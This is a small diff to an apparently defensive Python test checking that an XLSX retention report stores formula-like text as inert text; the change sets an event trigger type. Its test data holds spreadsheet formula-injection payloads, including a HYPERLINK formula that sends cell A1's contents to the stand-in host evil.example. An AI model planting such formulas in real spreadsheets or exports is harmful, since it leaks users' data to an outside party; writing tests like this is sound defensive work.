@@ -76,7 +76,7 @@ def test_retention_report_xlsx_stores_formula_like_text_as_text(app, client, log
     series = db.session.scalar(db.select(Series).filter_by(code="CS-03-01"))
     series.title_en = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     series.title_zh = "@SUM(1+1)"
-    series.trigger_label = "-2+3"
+    series.trigger, series.trigger_label = "event", "-2+3"  # an event trigger prints the plan's own words
     services.file_document(kind="inquiry", title="x", files=[("a.txt", b"a")], user=officer,
                            record_date=date(2020, 1, 1))
     db.session.commit()
